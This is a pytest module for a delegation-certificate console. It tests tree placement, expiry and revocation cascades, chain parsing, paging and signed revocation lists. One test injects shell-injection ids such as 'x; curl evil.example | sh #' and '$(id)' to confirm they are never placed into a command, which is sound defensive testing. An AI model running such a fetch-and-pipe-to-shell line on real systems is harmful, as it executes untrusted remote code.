"""Delegations as a tree: places, states, and what ends with an id."""

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.world.delegations import DAY, NOW, World

from accredit.console.delegations import DelegationTree, Link, TreeEntry, links_in, links_of, sorted_nodes
from accredit.console.lists import ListPlace, revoked_ids, see_lists
from accredit.console.people import Known
from accredit.console.people_views import DELEGATIONS_A_PAGE, DELEGATIONS_UNDER_ONE, MAX_SHOWN_ENDS, PeopleViews
from accredit.errors import DeskError
from accredit.ratify import DelegationCert, issue_revocation_list
from accredit.ratify.constraints import MaxAmount, MaxRate
from accredit.stores import SqliteFile

pytestmark = [pytest.mark.slow, pytest.mark.holds("console/delegations"), pytest.mark.holds("console/lists")]

WORLD = World()
PARENT = WORLD.grant("comms:email:send", "identity:delegate")
CHILD = WORLD.grant("comms:email:send", issuer=WORLD.agent, to=WORLD.sub, ends=NOW + 60)
NOBODY: frozenset[str] = frozenset()


def forest_of(*chains: tuple[DelegationCert, ...]) -> DelegationTree:
    forest = DelegationTree()
    for chain in chains:
        forest.add(links_of(chain), "log")
    return forest


def states(forest: DelegationTree, now: int = NOW, revoked: frozenset[str] = NOBODY) -> dict[str, str]:
    return {each.node.link.cert_id: each.state for each in forest.placed(now, revoked)}


@pytest.mark.holds("console/delegations", "parents")
def test_a_chain_gives_each_certificate_its_place__and_one_under_two_parents_has_two() -> None:
    other = WORLD.grant("identity:delegate", "comms:email:send", ends=NOW + 2 * DAY)
    forest = forest_of((CHILD, PARENT), (PARENT,), (CHILD, other))
    placed = [(each.level, each.node.link.cert_id) for each in forest.placed(NOW, NOBODY)]
    assert sorted(placed) == sorted([(0, PARENT.cert_id), (1, CHILD.cert_id), (0, other.cert_id), (1, CHILD.cert_id)])
    assert {each.person for each in forest.placed(NOW, NOBODY)} == {WORLD.owner.id}


@pytest.mark.holds("console/delegations", "validity")
def test_what_is_above_takes_all_below_with_it() -> None:
    forest = forest_of((CHILD, PARENT))
    assert states(forest) == {PARENT.cert_id: "now", CHILD.cert_id: "now"}
    assert states(forest, NOW + 61) == {PARENT.cert_id: "now", CHILD.cert_id: "ended"}
    assert states(forest, NOW - 1) == {PARENT.cert_id: "early", CHILD.cert_id: "early"}
    both = frozenset((PARENT.cert_id,))
    assert states(forest, revoked=both) == {PARENT.cert_id: "taken back", CHILD.cert_id: "taken back"}
    assert states(forest, revoked=frozenset((CHILD.cert_id,)))[PARENT.cert_id] == "now"
    longer = WORLD.grant("comms:email:send", issuer=WORLD.agent, to=WORLD.sub, ends=NOW + 9 * DAY)
    ends = {each.node.link.cert_id: each.ends_at for each in forest_of((longer, PARENT)).placed(NOW, NOBODY)}
    assert ends[longer.cert_id] == NOW + DAY  # not longer than what it stands on


@pytest.mark.holds("console/delegations", "revocation")
def test_an_id_ends_wherever_it_is__with_all_below() -> None:
    forest = forest_of((CHILD, PARENT))
    ends = forest.ends_with(PARENT.cert_id, NOW, NOBODY)
    assert [each.node.link.cert_id for each in ends] == [PARENT.cert_id, CHILD.cert_id]
    assert forest.ends_with(PARENT.cert_id, NOW + 61, NOBODY)[0].node.link.cert_id == PARENT.cert_id
    assert len(forest.ends_with(PARENT.cert_id, NOW + 61, NOBODY)) == 1  # the other has ended by itself
    assert forest.ends_with(PARENT.cert_id, NOW, frozenset((PARENT.cert_id,))) == []


def test_a_recorded_chain_is_read_as_its_certificates_are() -> None:
    limited = WORLD.grant("comms:email:send", constraints=(MaxRate(5, 3_600), MaxAmount("EUR", 100.0)))
    for chain in ((CHILD, PARENT), (limited,)):
        text = b"[" + b",".join(each.encode() for each in chain) + b"]"
        assert links_in(text) == links_of(chain)
    assert links_of((limited,))[0].words() == "at most 5 calls in 1h; at most 100 EUR in one call"


@given(st.binary(max_size=200) | st.recursive(st.none() | st.integers() | st.text(), st.lists).map(
    lambda each: json.dumps(each).encode()
))  # fmt: skip
def test_bytes_that_are_no_chain_are_none(data: bytes) -> None:
    assert links_in(data) is None


def test_what_the_journal_tells_is_completed_by_what_calls_came_with() -> None:
    forest = forest_of((PARENT,))
    entry: dict[str, Any] = {
        "at": NOW, "event": "allowed", "cert": PARENT.cert_id, "agent": WORLD.agent.id, "ends_at": NOW + 5,
        "scope": ["x"], "constraints": [], "target": "send_email",
    }  # fmt: skip
    odd = [entry | change for change in ({"cert": 5}, {"agent": None}, {"ends_at": "x"}, {"at": True})]
    unreadable: dict[str, object] = {"a": [{"type": "?"}, 5], "b": 5, "c": "x", "d": {"a": 1}, "e": [[]]}
    new = [entry | {"cert": name, "constraints": each, "scope": "x"} for name, each in unreadable.items()]
    forest.add_signed(WORLD.owner.id, [entry, *odd, *new])
    placed = {each.node.link.cert_id: each.node for each in forest.placed(NOW, NOBODY)}
    assert placed.keys() == {PARENT.cert_id, *unreadable}
    assert placed[PARENT.cert_id].sources == {"log", "journal"}
    assert placed[PARENT.cert_id].asked_for == "send_email"
    only = DelegationTree()
    only.add_signed(WORLD.owner.id, [entry])  # the page of an ask leads to it, used or not
    assert [each.link.handle for each in only.by_person[WORLD.owner.id].values()] == [links_of((PARENT,))[0].handle]
    for name in unreadable:
        assert placed[name].link.words() == "conditions that can't be read here"


def crowd(number: int) -> DelegationTree:
    """One agent that may pass on, with this many below it, and another delegation beside it."""
    forest = forest_of((PARENT,), (WORLD.grant("email:read", to=WORLD.sub),))
    (parent,) = links_of((PARENT,))
    (child,) = links_of((CHILD,))
    for each in range(number):
        link = type(child)(
            f"{each:032x}", child.issuer_id, child.subject_id, child.scope, b"[]", NOW, NOW + DAY * 9_000
        )
        forest.add((parent, link), "log", 1, "2027-01-15T08:00:00.000Z")
    return forest


def test_an_agent_that_passes_on_ten_thousand_times_hides_nobody() -> None:
    views = PeopleViews(Known(crowd(10_000)), {}, WORLD.owner.id)
    page = views.page("", 0, all_states=True)
    assert page["all"] == 10_002
    assert [each["level"] for each in page["rows"]].count(1) == 2
    assert len(page["rows"]) == 1 + 2 + DELEGATIONS_UNDER_ONE
    assert max(each.get("more", 0) for each in page["rows"]) == 10_000 - DELEGATIONS_UNDER_ONE
    assert len(json.dumps(page)) < 100_000
    found = views.page(f"{9_999:032x}", 0, all_states=True)  # looked for, it is found
    assert [each["level"] for each in found["rows"]] == [0, 1, 2]
    one = views.one(views.find(links_of((PARENT,))[0].handle))
    assert len(one["under"]) == DELEGATIONS_A_PAGE
    assert len(one["ends_with"]) <= MAX_SHOWN_ENDS
    assert len(json.dumps(one)) < 400_000
    rows, begin = 0, 0
    while begin is not None:  # a search that all pass is shown in pages
        part = views.page("comms", begin, all_states=True)
        rows, begin = rows + len(part["rows"]), part["next"]
        assert len(part["rows"]) <= DELEGATIONS_A_PAGE
    assert rows == 1 + 1 + 10_000


def linked(cert_id: str, issuer: str, subject: str, **changes: Any) -> Link:
    members: dict[str, Any] = {"scope": ("mcp:tool",), "constraints": b"[]", "issued_at": 5, "expires_at": NOW * 2}
    return Link(cert_id, issuer, subject, **members | changes)


@pytest.mark.timeout(60)
def test_an_agent_that_passes_on_as_deep_as_wide_hides_nobody__and_its_page_is_made_in_time() -> None:
    forest, top = DelegationTree(), linked("top", "ada", "a0")
    for wide in range(5_000):
        below = [linked(f"{wide}-{deep}", f"a{wide}-{deep}", f"a{wide}-{deep + 1}") for deep in range(7)]
        forest.add((top, *below), "log", 1, "2027-01-15T08:00:00.000Z")
    forest.add((linked("other", "ada", "b0"),), "file")
    views = PeopleViews(Known(forest), {}, "ada")
    page = views.page("", 0, all_states=True)
    assert [each["who"] for each in page["rows"] if each["level"] == 1] == ["a0…", "b0…"]
    assert len(page["rows"]) == 1 + 2 + DELEGATIONS_UNDER_ONE
    one = views.one(views.find(top.handle))
    assert (len(one["under"]), one["under_more"]) == (DELEGATIONS_A_PAGE, 35_000 - DELEGATIONS_A_PAGE)


def test_an_agent_that_copies_an_id_keeps_nobody_from_taking_it_back() -> None:
    """It has another delegation, and passes on to itself what has ended already, under the id of the first."""
    first, second = linked("a" * 32, "ada", "bot"), linked("b" * 32, "ada", "bot")
    copy = linked(first.cert_id, "bot", "bot", expires_at=9)
    forest = DelegationTree()
    forest.add((second, copy), "log", 1, "z")
    forest.add((first,), "log")
    views = PeopleViews(Known(forest), {}, "ada")
    assert views.find(first.handle).state == "now"
    assert views.find(copy.handle).state == "ended"
    assert [each["handle"] for each in views.one(views.find(first.handle))["ends_with"]] == [first.handle]


def test_an_agent_that_keeps_another_delegation_is_said_to() -> None:
    forest = DelegationTree()
    for name, ends in (("a", NOW * 2), ("b", NOW * 2), ("c", 5)):
        forest.add((linked(name, "ada", "bot", expires_at=ends),), "file")
    views = PeopleViews(Known(forest), {}, "ada")
    one = next(each for each in views.page("", 0, all_states=True)["rows"] if each.get("cert") == "a")
    assert views.one(views.find(one["handle"]))["others"] == 1


def test_one_name_for_two_is_told_apart__a_key_brings_the_name_that_its_maker_chose() -> None:
    forest = DelegationTree()
    for holder in ("11111111aaaa", "22222222bbbb", "33333333cccc"):
        forest.add((linked(holder, "ada", holder),), "file")
    names = {"11111111aaaa": "Assistant", "22222222bbbb": "Assistant", "33333333cccc": "Helper"}
    told = {each["who"] for each in PeopleViews(Known(forest), names, "ada").page("", 0, all_states=True)["rows"][1:]}
    assert len(told) == 3
    assert "Helper" in told
    assert "Assistant" not in told


def test_no_id_that_a_shell_could_read_otherwise_is_put_into_a_command() -> None:
    forest, ids = (
        DelegationTree(),
        ["a" * 32, "x; curl evil.example | sh #", "-f", "$(id)", "\u202e", "A" * 32, "a" * 31 + "\n"],
    )
    for cert_id in ids:
        forest.add((linked(cert_id, "ada", "bot"),), "file")
    views = PeopleViews(Known(forest), {}, "ada")
    found = [views.one(each)["typed"] for each in forest.placed(NOW, NOBODY)]
    assert found == ["a" * 32] + [""] * 6


def test_a_chain_that_no_gateway_takes_is_none__however_deep_somebody_has_made_it() -> None:
    one = json.loads(PARENT.encode())
    for depth, is_one in ((1, True), (8, True), (9, False), (3_000, False)):
        assert (links_in(json.dumps([one] * depth).encode()) is not None) == is_one
    assert links_in(json.dumps([one | {"cert_id": "x" * 140_000}]).encode()) is None


def test_a_delegation_that_nobody_knows_is_said_to_be_unknown() -> None:
    with pytest.raises(DeskError, match="no such delegation"):
        PeopleViews(Known(crowd(1)), {}).find("0" * 32)


def test_those_that_hold_come_first__the_last_used_before_others() -> None:
    forest = forest_of((PARENT,), (CHILD,))
    level = forest.by_person[WORLD.owner.id]
    order: dict[int, TreeEntry] = {id(each.node): each for each in forest.placed(NOW, NOBODY)}
    assert [each.link.cert_id for each in sorted_nodes(level, lambda node: order[id(node)].state)] == [PARENT.cert_id]


def test_a_list_counts_only_if_its_issuer_signed_it(tmp_path: Path) -> None:
    path = tmp_path / "revoked.json"
    place = [ListPlace(path, "here"), ListPlace(SqliteFile(tmp_path / "none.db"), "store")]
    keys = {WORLD.owner.id: WORLD.owner.public_key}
    assert see_lists(place, keys.get) == []
    assert not (tmp_path / "none.db").exists()  # nothing is made by looking
    good = issue_revocation_list(WORLD.owner.signer(), ("a", "b"), NOW).encode()
    for text, revoked in (
        (good, {"a", "b"}),
        (good.replace(b'"b"', b'"c"'), set[str]()),
        (issue_revocation_list(WORLD.agent.signer(), ("a",), NOW).encode(), set[str]()),
        (b"{}", set[str]()),
        (b"", set[str]()),
    ):
        path.write_bytes(text)
        (seen,) = see_lists(place, keys.get)
        assert revoked_ids([seen]) == revoked
        assert bool(seen.fault) == (not revoked)
    path.unlink()
    path.mkdir()
    assert "can't read" in see_lists(place, keys.get)[0].fault
